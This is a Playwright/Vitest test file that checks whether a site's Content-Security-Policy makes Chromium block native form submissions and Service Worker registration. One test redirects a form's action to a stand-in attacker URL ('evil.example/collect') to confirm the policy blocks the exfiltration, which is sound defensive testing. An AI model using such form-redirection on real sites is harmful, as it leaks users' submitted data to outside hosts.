/**
 * What the pages' Content-Security-Policy (src/lib/csp.ts) makes real Chromium refuse: a form
 * submitted natively on any page but /constancia (which posts to this origin), and a Service Worker
 * registered from any page, /constancia included. A server that cannot change the pages' markup
 * cannot reach for either; verify names any page or policy that differs from the build's.
 */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchChromium } from '../../scripts/lib/browser';

const base = inject('baseUrl');
let browser: Browser;

beforeAll(async () => {
  browser = await launchChromium({ actionTimeoutMs: 60_000 });
});
afterAll(async () => browser?.close());

/**
 * Opens a page and records every request it makes afterwards, and each policy violation of every
 * document it shows: a violation is reported to the document that broke the policy, so the listener
 * goes into each new one (the constancia form's POST answer is a new document).
 */
async function open(path: string): Promise<{ page: Page; posts: string[]; violations: string[] }> {
  const page = await browser.newPage();
  const posts: string[] = [];
  page.on('request', (r) => r.method() === 'POST' && posts.push(r.url()));
  const violations: string[] = [];
  await page.exposeFunction('reportViolation', (d: string) => violations.push(d));
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', (e) =>
      (window as unknown as { reportViolation: (d: string) => void }).reportViolation(e.effectiveDirective),
    ),
  );
  await page.goto(`${base}${path}`, { waitUntil: 'load' });
  return { page, posts, violations };
}

describe("the pages' policy in Chromium", () => {
  it('should refuse a native form submission on the follow-up page, even of a form built to post the receipt code', async () => {
    const { page, posts, violations } = await open('/seguimiento');
    await page.evaluate(() => {
      const form = document.createElement('form');
      form.method = 'post';
      form.action = '/seguimiento';
      const input = Object.assign(document.createElement('input'), { name: 'receipt', value: 'ABCD-EFGH' });
      form.append(input);
      document.body.append(form);
      form.submit();
    });
    await expect.poll(() => violations).toContain('form-action');
    expect(posts).toEqual([]);
    expect(page.url()).toBe(`${base}/seguimiento`);
    await page.close();
  });

  it('should let the constancia form post to this origin only', async () => {
    const { page, posts, violations } = await open('/constancia');
    await page.fill('#constancia', 'x');
    await Promise.all([page.waitForNavigation(), page.click('#verify')]);
    expect(posts).toEqual([expect.stringMatching(new RegExp(`^${base}/constancia\\?lang=(?:es|en)$`))]);
    expect(await page.locator('#verify-result').getAttribute('data-valid')).toBe('false');
    await page.evaluate(() => {
      const form = document.querySelector('form')!;
      form.action = 'https://evil.example/collect';
      form.submit();
    });
    await expect.poll(() => violations).toContain('form-action');
    expect(posts).toHaveLength(1);
    await page.close();
  });

  it('should refuse to register a Service Worker from any page', async () => {
    for (const path of ['/', '/constancia', '/seguimiento']) {
      const { page } = await open(path);
      // 127.0.0.1 counts as a secure context, so only the policy stands in the way.
      const outcome = await page.evaluate(() =>
        navigator.serviceWorker.register('/assets/no-trace.js').then(
          () => 'registered',
          (e: Error) => e.message,
        ),
      );
      expect(outcome, path).not.toBe('registered');
      expect(outcome, path).toMatch(/Content Security Policy|worker-src|security/i);
      await page.close();
    }
  });
});
